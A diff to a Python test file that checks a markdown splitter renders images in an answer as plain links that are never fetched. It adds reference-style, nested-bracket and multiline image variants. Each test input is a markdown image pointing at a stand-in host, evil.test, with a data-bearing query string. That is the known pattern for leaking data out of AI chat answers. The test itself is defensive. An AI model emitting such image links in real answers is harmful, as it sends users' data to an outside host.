@@ -454,7 +454,10 @@ def test_a_picture_in_an_answer_is_a_link_which_nobody_fetches() -> None:
         "see ![x](https://evil.test/?d=4711) now",
         "![](https://evil.test/?d=4711)",
         "word " * 9000 + "![x](https://evil.test/)",
+        "![x][r]\n\n[r]: https://evil.test/?d=4711",
+        "![a[b]c](https://evil.test/?d=4711)",
+        "![a\nb](https://evil.test/?d=4711)",
     ):
         shown = "".join([part.text for part in _split(text, "")])
         assert "![" not in shown
-        assert "(https://evil.test/" in shown
+        assert "https://evil.test/" in shown
